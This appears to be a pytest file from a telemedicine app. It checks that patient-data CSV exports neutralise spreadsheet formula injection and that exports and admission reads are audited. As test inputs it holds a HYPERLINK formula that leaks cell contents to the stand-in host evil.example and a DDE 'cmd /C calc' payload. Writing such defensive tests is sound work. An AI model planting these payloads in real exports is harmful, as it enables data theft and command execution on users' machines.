"""Exports of patient data: CSV cells that a spreadsheet would run as formulas are
neutralised, and every export of patient names, and every read of admissions, is
audited."""

from __future__ import annotations

from sqlalchemy import select

from telemed.domain.spreadsheet import safe_cell
from telemed.extensions import db
from telemed.models import AuditEvent
from telemed.models.beds import Admission
from telemed.models.consortium import Patient
from telemed.models.scheduling import Booking
from tests import factories
from tests.test_dashboard_pages import MONTH_ARGS, month, read_csv  # noqa: F401

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2&B2,"查看")'


def test_owasp_formula_starts_are_quoted():
    for dangerous in (HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tx", "\rx"):
        assert safe_cell(dangerous) == "'" + dangerous
    for plain in ("张三", "", "-3", "+1.5", "42", "0.25", "12%", "a=b"):
        assert safe_cell(plain) == plain


def audit_events(action: str, entity_type: str) -> list[AuditEvent]:
    db.session.rollback()
    return list(
        db.session.execute(
            select(AuditEvent).where(
                AuditEvent.action == action, AuditEvent.entity_type == entity_type
            )
        ).scalars()
    )


def test_drill_down_csv_neutralises_a_formula_name_and_is_audited(world, month, client):  # noqa: F811
    patient_id = db.session.execute(
        select(Booking.patient_id).where(Booking.patient_id.is_not(None)).limit(1)
    ).scalar_one()
    db.session.get(Patient, patient_id).name = HYPERLINK
    db.session.commit()
    headers = factories.bearer(factories.token_for(world.user("admin")))
    params = {**MONTH_ARGS, "what": "bookings", "service": "any"}
    rows = read_csv(client.get("/admin/dashboard/drill.csv", query_string=params, headers=headers))
    cells = [cell for row in rows for cell in row]
    assert "'" + HYPERLINK in cells
    assert not any(cell.startswith(("=", "@")) for cell in cells)
    exported = audit_events("export", "dashboard_drill")
    assert [(e.entity_id, e.detail["rows"]) for e in exported] == [("bookings", len(rows) - 1)]
    assert exported[0].actor_id == world.user("admin").id
    page = client.get("/admin/dashboard/drill", query_string=params, headers=headers)
    assert page.status_code == 200
    assert [e.entity_id for e in audit_events("view", "dashboard_drill")] == ["bookings"]


def test_reading_admissions_is_audited(world, month, client):  # noqa: F811
    admission_id = db.session.execute(select(Admission.id).limit(1)).scalar_one()
    headers = factories.bearer(factories.token_for(world.user("admin")))
    assert client.get("/api/admissions", headers=headers).status_code == 200
    listed = audit_events("list", "admission")
    assert len(listed) == 1 and admission_id in listed[0].detail["ids"]
    assert client.get(f"/api/admissions/{admission_id}", headers=headers).status_code == 200
    assert [e.entity_id for e in audit_events("view", "admission")] == [str(admission_id)]
    assert client.get("/api/admissions/999999", headers=headers).status_code == 404
    denied = [e for e in audit_events("view", "admission") if e.entity_id == "999999"]
    assert len(denied) == 1 and denied[0].outcome.value == "denied"
